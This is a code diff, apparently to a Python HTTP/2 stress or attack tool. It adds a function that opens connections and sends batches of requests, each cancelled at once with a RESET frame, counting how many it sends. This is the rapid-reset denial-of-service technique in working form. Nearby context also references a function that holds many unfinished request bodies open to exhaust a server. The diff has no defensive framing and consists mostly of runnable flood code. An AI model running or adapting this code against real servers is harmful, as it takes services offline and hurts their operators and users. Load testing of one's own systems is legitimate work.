@@ -91,6 +91,26 @@ class Connection:
             raise ConnectionError("go away")
 
 
+def resets(host, port, path, seconds):
+    """Requests that are reset at once, on one connection after the other. How many."""
+    deadline, count = time.monotonic() + seconds, 0
+    cancel = struct.pack(">I", 8)
+    while time.monotonic() < deadline:
+        try:
+            connection = Connection(host, port, path, 0)
+            while time.monotonic() < deadline and connection.next < 1 << 30:
+                pairs = []
+                for stream in range(connection.next, connection.next + 100, 2):
+                    pairs.append(post(stream, connection.authority, path) + frame(RESET, 0, stream, cancel))
+                connection.next += 100
+                connection.socket.sendall(b"".join(pairs))
+                count += len(pairs)
+                connection.receive()
+        except OSError:
+            time.sleep(0.01)
+    return count
+
+
 def half_bodies(host, port, path, streams, seconds):
     """One connection after the other, each with so many unfinished bodies. The bytes sent."""
     deadline, sent, connections = time.monotonic() + seconds, 0, 0
